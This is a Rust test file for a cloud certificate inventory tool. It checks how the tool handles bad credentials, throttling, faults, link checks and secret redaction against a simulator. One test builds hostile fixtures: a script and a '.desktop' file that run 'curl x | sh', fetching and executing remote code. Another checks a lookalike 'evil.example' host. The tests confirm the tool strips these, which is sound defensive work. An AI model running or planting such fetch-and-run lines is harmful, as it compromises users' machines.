//! Error paths against the real simulator: the gateway's refusals and injected faults.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use crate::common;

use std::sync::Arc;

use certdesk::clock::{SkewedClock, SystemClock};
use certdesk::cloud::download::LinkFetcher;
use certdesk::cloud::{CloudError, Credentials, HttpConfig, ServiceErrorKind, dcs};
use certdesk::inventory::{RefreshOptions, refresh_all};
use certdesk::sim::{Faults, Scale};

fn first_region(sim: &certdesk::sim::RunningSim) -> String {
    sim.info.regions[0].clone()
}

#[tokio::test]
async fn a_session_whose_secret_is_wrong_reaches_the_cloud_once_however_many_calls_it_makes_at_once() {
    let sim = common::sim_with(Scale::Large, Faults::default()).await;
    let wrong =
        common::session_with(&sim, Credentials::aksk(&sim.info.ak, "not-the-secret"), common::fast_config(), None);
    let password = common::password_session(&sim, "not-the-password");
    for region in &sim.info.regions {
        wrong.set_project_id(region, &sim.info.project_ids[region]).await;
    }
    // Every region's DCS and GeminiDB at once, as a refresh without a first check would.
    let calls = sim.info.regions.iter().flat_map(|r| [r.clone(), r.clone()]);
    let (aksk, iam): (Vec<_>, Vec<_>) = futures_util::future::join(
        futures_util::future::join_all(calls.clone().map(|r| {
            let wrong = &wrong;
            async move { dcs::list_instances(wrong, &r).await }
        })),
        futures_util::future::join_all(calls.map(|r| {
            let password = &password;
            async move { dcs::list_instances(password, &r).await }
        })),
    )
    .await;
    assert!(aksk.iter().chain(&iam).all(Result::is_err));
    let failures = sim.state.auth_failures();
    assert_eq!(failures.get(&sim.info.ak), Some(&1), "{failures:?}");
    let user = format!("{}/sim-admin", sim.state.estate().domain_name);
    assert_eq!(failures.get(&user), Some(&1), "{failures:?}");
    // The rest say why nothing was sent.
    let not_sent =
        aksk.iter().filter(|r| matches!(r, Err(CloudError::NotSent(m)) if m.contains("nothing more is sent"))).count();
    assert_eq!(not_sent, aksk.len() - 1);
    assert!(wrong.auth_failure().unwrap().contains("APIG.0301"), "{:?}", wrong.auth_failure());
}

#[tokio::test]
async fn a_gateway_refusal_before_the_signature_is_checked_does_not_release_the_waiting_calls() {
    // The first call is throttled (429 from the gateway, before it reads the signature) until its
    // retries run out; that proves nothing about the secret, so the calls queued behind it must
    // still go one at a time and stop at the first bad signature.
    let faults = Faults { throttle_every: 1000, throttle_burst: 3, retry_after_secs: 0, ..Faults::default() };
    let sim = common::sim_with(Scale::Small, faults).await;
    let wrong =
        common::session_with(&sim, Credentials::aksk(&sim.info.ak, "not-the-secret"), common::fast_config(), None);
    let opts = RefreshOptions { regions: sim.info.regions.clone(), ..RefreshOptions::default() };
    let (rows, errors) = refresh_all(Arc::new(wrong), opts).await;
    assert!(rows.is_empty() && !errors.is_empty());
    let failures = sim.state.auth_failures();
    assert_eq!(failures.get(&sim.info.ak), Some(&1), "one bad signature reached the cloud: {failures:?}");
}

#[tokio::test]
async fn a_wrong_secret_key_is_a_bad_signature_and_five_lock_the_key() {
    let sim = common::sim().await;
    let region = first_region(&sim);
    // Five sessions (five runs of some tool): certdesk's own session stops after one failure.
    for _ in 0..5 {
        let wrong =
            common::session_with(&sim, Credentials::aksk(&sim.info.ak, "not-the-secret"), common::fast_config(), None);
        // Project ids are preset so each attempt is exactly one signed call.
        wrong.set_project_id(&region, &sim.info.project_ids[&region]).await;
        let err = dcs::list_instances(&wrong, &region).await.unwrap_err();
        assert_eq!(err.service().unwrap().kind(), ServiceErrorKind::BadSignature, "{err}");
        assert!(err.to_string().contains("secret key"), "the message says what to check: {err}");
    }
    let requests = sim.state.request_count();
    // Now even the right key is locked out for five minutes.
    let right = common::session(&sim);
    right.set_project_id(&region, &sim.info.project_ids[&region]).await;
    let err = dcs::list_instances(&right, &region).await.unwrap_err();
    assert_eq!(err.service().unwrap().kind(), ServiceErrorKind::AkLocked, "{err}");
    assert_eq!(sim.state.request_count(), requests + 1, "a 401 is never retried");
}

#[tokio::test]
async fn keys_that_may_not_list_projects_still_find_each_regions_project_and_the_account() {
    let sim = common::sim_with(Scale::Small, Faults { deny_project_listing: true, ..Faults::default() }).await;
    let s = common::session(&sim);
    let region = first_region(&sim);
    let before = sim.state.request_count();
    assert_eq!(s.project_id(&region).await.unwrap(), sim.info.project_ids[&region]);
    assert_eq!(s.domain_id().await.unwrap(), sim.info.domain_id);
    assert_eq!(
        sim.state.request_count() - before,
        3,
        "the refused listing once, then the lookup by region name and the account list"
    );
    // Region discovery says why the listing was refused, without sending it again.
    let before = sim.state.request_count();
    let err = certdesk::inventory::discover_regions(&s).await.unwrap_err();
    assert_eq!(err.service().unwrap().status, 403, "{err}");
    assert_eq!(sim.state.request_count(), before, "the listing's answer is kept, not asked again");
}

#[tokio::test]
async fn an_unknown_access_key_is_refused() {
    let sim = common::sim().await;
    let s = common::session_with(&sim, Credentials::aksk("NOSUCHAK", &sim.info.sk), common::fast_config(), None);
    let err = s.project_id(&first_region(&sim)).await.unwrap_err();
    assert_eq!(err.service().unwrap().status, 401);
    assert!(err.service().unwrap().message.contains("ak not exist"));
}

#[tokio::test]
async fn a_skewed_clock_is_reported_as_clock_skew() {
    let sim = common::sim().await;
    let clock = Arc::new(SkewedClock { offset_secs: 20 * 60 });
    let s =
        common::session_with(&sim, Credentials::aksk(&sim.info.ak, &sim.info.sk), common::fast_config(), Some(clock));
    let err = s.project_id(&first_region(&sim)).await.unwrap_err();
    assert_eq!(err.service().unwrap().kind(), ServiceErrorKind::ClockSkew, "{err}");
    assert!(err.to_string().contains("clock"), "{err}");
    // Ten minutes off is inside the window.
    let ok = common::session_with(
        &sim,
        Credentials::aksk(&sim.info.ak, &sim.info.sk),
        common::fast_config(),
        Some(Arc::new(SkewedClock { offset_secs: -10 * 60 })),
    );
    ok.project_id(&first_region(&sim)).await.unwrap();
}

#[tokio::test]
async fn throttling_is_retried_after_the_servers_retry_after() {
    let faults = Faults { throttle_every: 4, throttle_burst: 2, retry_after_secs: 0, ..Faults::default() };
    let sim = common::sim_with(Scale::Small, faults).await;
    let s = common::session(&sim);
    // Requests 0 and 1 of every 4 are throttled; the client must get through anyway.
    let list = dcs::list_instances(&s, &first_region(&sim)).await.unwrap();
    assert!(!list.is_empty());
    sim.state.set_faults(Faults { throttle_every: 1, throttle_burst: 1, retry_after_secs: 0, ..Faults::default() });
    let before = sim.state.request_count();
    let err = dcs::show_ssl(&s, &first_region(&sim), &list[0].instance_id).await.unwrap_err();
    assert_eq!(err.service().unwrap().kind(), ServiceErrorKind::Throttled);
    assert_eq!(err.service().unwrap().retry_after_secs, Some(0));
    assert_eq!(sim.state.request_count() - before, 3, "three attempts, then the error");
}

#[tokio::test]
async fn server_errors_are_retried_then_reported() {
    let sim = common::sim_with(Scale::Small, Faults { error_rate: 1.0, ..Faults::default() }).await;
    let s = common::session(&sim);
    let before = sim.state.request_count();
    let err = s.project_id(&first_region(&sim)).await.unwrap_err();
    assert_eq!(err.service().unwrap().kind(), ServiceErrorKind::ServerError);
    // Three attempts at the project listing, then three at the region's own lookup (its IAM
    // may be up where the home region's is not).
    assert_eq!(sim.state.request_count() - before, 6);
}

#[tokio::test]
async fn a_non_idempotent_call_is_never_retried() {
    let sim = common::sim_with(Scale::Small, Faults { error_rate: 1.0, ..Faults::default() }).await;
    let s = common::password_session(&sim, "sim-password");
    let before = sim.state.request_count();
    // Password sign-in (POST /v3/auth/tokens) is not idempotent.
    let err = s.project_id(&first_region(&sim)).await.unwrap_err();
    assert_eq!(err.service().unwrap().status, 503);
    assert_eq!(sim.state.request_count() - before, 1);
}

#[tokio::test]
async fn truncated_bodies_and_resets_are_errors_not_data() {
    let sim = common::sim_with(Scale::Small, Faults { truncate_rate: 1.0, ..Faults::default() }).await;
    let s = common::session(&sim);
    let err = s.project_id(&first_region(&sim)).await.unwrap_err();
    assert!(matches!(err, CloudError::BadResponse { .. } | CloudError::NoResponse { .. }), "{err:?}");
    sim.state.set_faults(Faults { reset_rate: 1.0, ..Faults::default() });
    let err = s.project_id(&first_region(&sim)).await.unwrap_err();
    assert!(matches!(err, CloudError::BadResponse { .. } | CloudError::NoResponse { .. }), "{err:?}");
    sim.state.set_faults(Faults::default());
    s.project_id(&first_region(&sim)).await.unwrap();
}

#[tokio::test]
async fn oversized_bodies_are_refused() {
    let sim = common::sim_with(Scale::Demo, Faults::default()).await;
    let config = HttpConfig { max_body_bytes: 1024, ..common::fast_config() };
    let s = common::session_with(&sim, Credentials::aksk(&sim.info.ak, &sim.info.sk), config, None);
    let region = first_region(&sim);
    s.set_project_id(&region, &sim.info.project_ids[&region]).await;
    let err = dcs::list_instances(&s, &region).await.unwrap_err();
    assert!(err.to_string().contains("larger than the 1024-byte limit"), "{err}");
}

#[tokio::test]
async fn slow_drip_beyond_the_timeout_is_a_timeout() {
    let sim = common::sim_with(Scale::Small, Faults { drip_bytes_per_sec: 20, ..Faults::default() }).await;
    let mut config = common::fast_config();
    config.request_timeout_secs = 1;
    config.retry.max_attempts = 1;
    let s = common::session_with(&sim, Credentials::aksk(&sim.info.ak, &sim.info.sk), config, None);
    let err = s.project_id(&first_region(&sim)).await.unwrap_err();
    assert!(matches!(err, CloudError::Timeout { .. } | CloudError::BadResponse { .. }), "{err:?}");
}

async fn dcs_link(sim: &certdesk::sim::RunningSim) -> String {
    let s = common::session(sim);
    let (region, record) = common::ssl_dcs(sim);
    dcs::ssl_cert_link(&s, &region.name, &record.instance.instance_id).await.unwrap().link
}

#[tokio::test]
async fn expired_links_are_refused_before_and_by_the_server() {
    let sim = common::sim_with(Scale::Small, Faults { link_ttl_secs: -5, ..Faults::default() }).await;
    let link = dcs_link(&sim).await;
    let session = common::session(&sim);
    let fetcher = LinkFetcher::new(session.http(), session.endpoints().link_policy()).unwrap();
    assert!(matches!(fetcher.fetch(&link, &SystemClock).await, Err(CloudError::LinkExpired)));
    // With a clock behind the server, the local check passes and the object store says expired.
    let behind = SkewedClock { offset_secs: -600 };
    assert!(matches!(fetcher.fetch(&link, &behind).await, Err(CloudError::LinkExpired)));
}

#[tokio::test]
async fn links_to_foreign_hosts_or_tampered_links_are_refused() {
    let sim = common::sim().await;
    let link = dcs_link(&sim).await;
    let session = common::session(&sim);
    let fetcher = LinkFetcher::new(session.http(), session.endpoints().link_policy()).unwrap();
    let foreign = link.replace("127.0.0.1", "127.0.0.2");
    assert!(matches!(fetcher.check(&foreign, &SystemClock), Err(CloudError::LinkRejected(_))));
    assert!(matches!(fetcher.check("ftp://127.0.0.1/x", &SystemClock), Err(CloudError::LinkRejected(_))));
    assert!(matches!(fetcher.check("http://user:pw@127.0.0.1/x", &SystemClock), Err(CloudError::LinkRejected(_))));
    let tampered = link.replace("/dcs/", "/gemini/");
    let err = fetcher.fetch(&tampered, &SystemClock).await.unwrap_err();
    assert!(matches!(err, CloudError::BadResponse { status: 403, .. }), "{err:?}");
    assert!(!err.to_string().contains("Signature="), "no presigned query in messages: {err}");
    // The public catalog only allows https links on the cloud's object storage.
    let public = certdesk::cloud::Endpoints::catalog(certdesk::cloud::Cloud::OpenTelekomCloud).link_policy();
    let strict = LinkFetcher::new(session.http(), public).unwrap();
    assert!(strict.check(&link, &SystemClock).is_err());
    assert!(strict.check("https://bucket.obs.eu-de.otc.t-systems.com/a?Expires=99999999999", &SystemClock).is_ok());
    assert!(strict.check("https://obs.eu-de.otc.t-systems.com.evil.example/a", &SystemClock).is_err());
}

#[tokio::test]
async fn a_link_to_another_port_of_the_allowed_host_is_refused_and_that_port_receives_nothing() {
    let sim = common::sim().await;
    let link = dcs_link(&sim).await;
    let session = common::session(&sim);
    let fetcher = LinkFetcher::new(session.http(), session.endpoints().link_policy()).unwrap();
    // Another local service on the same host, counting who knocks.
    let other = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = other.local_addr().unwrap().port();
    let knocked = Arc::new(std::sync::atomic::AtomicUsize::new(0));
    let counter = knocked.clone();
    let server = tokio::spawn(async move {
        while other.accept().await.is_ok() {
            counter.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
        }
    });
    let sim_port = url::Url::parse(sim.endpoint()).unwrap().port().unwrap();
    let elsewhere = link.replace(&format!(":{sim_port}/"), &format!(":{port}/"));
    assert_ne!(elsewhere, link);
    let err = fetcher.fetch(&elsewhere, &SystemClock).await.unwrap_err();
    assert!(matches!(&err, CloudError::LinkRejected(m) if m.contains(&format!("port {port}"))), "{err:?}");
    // Without a port the scheme's (80) is not the endpoint's either.
    let default_port = link.replace(&format!(":{sim_port}/"), "/");
    assert!(matches!(fetcher.check(&default_port, &SystemClock), Err(CloudError::LinkRejected(_))));
    tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    assert_eq!(knocked.load(std::sync::atomic::Ordering::SeqCst), 0, "nothing was sent to the other port");
    server.abort();
    assert!(fetcher.fetch(&link, &SystemClock).await.is_ok(), "the endpoint's own port still works");
    // The catalog's links name 443 (or none).
    let public = certdesk::cloud::Endpoints::catalog(certdesk::cloud::Cloud::OpenTelekomCloud).link_policy();
    let strict = LinkFetcher::new(session.http(), public).unwrap();
    assert!(strict.check("https://b.obs.eu-de.otc.t-systems.com:443/a?Expires=99999999999", &SystemClock).is_ok());
    assert!(strict.check("https://b.obs.eu-de.otc.t-systems.com:8443/a?Expires=99999999999", &SystemClock).is_err());
}

#[test]
fn a_dcs_zip_is_saved_with_its_certificate_files_only() {
    let pki = common::pki();
    let pem = pki.root.pem.clone();
    // A script that carries a certificate after its own lines is a certificate file by its
    // content: only the certificate is kept, under a plain name.
    let script = format!("#!/bin/sh\ncurl x | sh\nexit 0\n{pem}");
    let zip = certdesk::certs::archive::write_zip(&[
        ("ca.pem", pem.as_bytes()),
        ("evil.desktop", b"[Desktop Entry]\nExec=sh -c 'curl x|sh'\n"),
        ("notes/readme.txt", b"hello"),
        ("install.sh", script.as_bytes()),
    ])
    .unwrap();
    let read = certdesk::inventory::ca_download::read_download(&bytes::Bytes::from(zip)).unwrap();
    assert_eq!(read.left_out, ["evil.desktop", "notes/readme.txt"]);
    let limits = certdesk::certs::archive::ArchiveLimits::default();
    let kept = certdesk::certs::archive::read_zip("saved", &read.bytes, limits).unwrap();
    assert_eq!(kept.iter().map(|e| e.name.as_str()).collect::<Vec<_>>(), ["ca.pem", "ca-2.crt"]);
    assert_eq!(kept[0].bytes, pem.as_bytes());
    assert_eq!(kept[1].bytes, pem.as_bytes(), "the script's own lines are gone");
    // Anything that is no zip is saved as the PEM text of its certificates: a zip appended to
    // a PEM file is not carried along.
    let mut pem_and_zip = pem.clone().into_bytes();
    pem_and_zip.extend(certdesk::certs::archive::write_zip(&[("evil.desktop", b"x".as_slice())]).unwrap());
    let read = certdesk::inventory::ca_download::read_download(&bytes::Bytes::from(pem_and_zip)).unwrap();
    assert_eq!(read.bytes, pem.as_bytes());
    // Only other files: refused, nothing to save.
    let none = certdesk::certs::archive::write_zip(&[("evil.desktop", b"x".as_slice())]).unwrap();
    assert!(certdesk::inventory::ca_download::read_download(&bytes::Bytes::from(none)).is_err());
}

#[tokio::test]
async fn an_expired_token_is_replaced_once() {
    let sim = common::sim().await;
    let s = common::password_session(&sim, "sim-password");
    let region = first_region(&sim);
    dcs::list_instances(&s, &region).await.unwrap();
    // The server's clock jumps a day ahead: the cached token is now expired there.
    sim.state.set_faults(Faults { clock_offset_secs: 25 * 3600, ..Faults::default() });
    let list = dcs::list_instances(&s, &region).await.unwrap();
    assert!(!list.is_empty(), "signed in again and listed");
}

#[tokio::test]
async fn one_failing_region_does_not_stop_the_others() {
    let sim = common::sim_with(Scale::Small, Faults::default()).await;
    let failing = sim.info.regions[1].clone();
    sim.state.set_faults(Faults { fail_regions: vec![failing.clone()], ..Faults::default() });
    let s = Arc::new(common::session(&sim));
    let opts = RefreshOptions { regions: sim.info.regions.clone(), ..RefreshOptions::default() };
    let (rows, errors) = refresh_all(s, opts).await;
    assert_eq!(errors.len(), 3, "DCS, GeminiDB and ELB of the failing region: {errors:?}");
    assert!(errors.iter().all(|e| e.region == failing));
    let healthy = &sim.info.regions[0];
    let estate = sim.state.estate();
    let expected = estate.region(healthy).unwrap();
    assert_eq!(rows.iter().filter(|r| r.region == *healthy).count(), expected.item_count());
    assert_eq!(rows.iter().filter(|r| r.region == "global").count(), estate.certificates.len() + estate.scm.len());
}

#[test]
fn credentials_never_show_their_secrets() {
    let creds = Credentials::AkSk {
        access_key: "AKVISIBLE".into(),
        secret_key: certdesk::cloud::Secret::new("TOPSECRETSK"),
        security_token: Some(certdesk::cloud::Secret::new("TOPSECRETTOKEN")),
    };
    let shown = format!("{creds:?}");
    assert!(shown.contains("AKVISIBLE") && !shown.contains("TOPSECRET"), "{shown}");
    let pw = Credentials::Password {
        domain_name: "d".into(),
        user_name: "u".into(),
        password: certdesk::cloud::Secret::new("hunter2pw"),
    };
    assert!(!format!("{pw:?}").contains("hunter2pw"));
}

#[test]
fn requests_never_show_their_body_in_debug_output() {
    let base = url::Url::parse("https://iam.eu-de.otc.t-systems.com").unwrap();
    let body = br#"{"auth":{"identity":{"password":{"user":{"password":"hunter2-signin"}}}}}"#.to_vec();
    let req = certdesk::cloud::http::ApiRequest::post(&base, "/v3/auth/tokens", Some(body), false)
        .header("X-Domain-Id", "secret-ish-id");
    let shown = format!("{req:?}");
    assert!(!shown.contains("hunter2-signin") && !shown.contains("secret-ish-id"), "{shown}");
    assert!(shown.contains("/v3/auth/tokens") && shown.contains("body_len"));
}
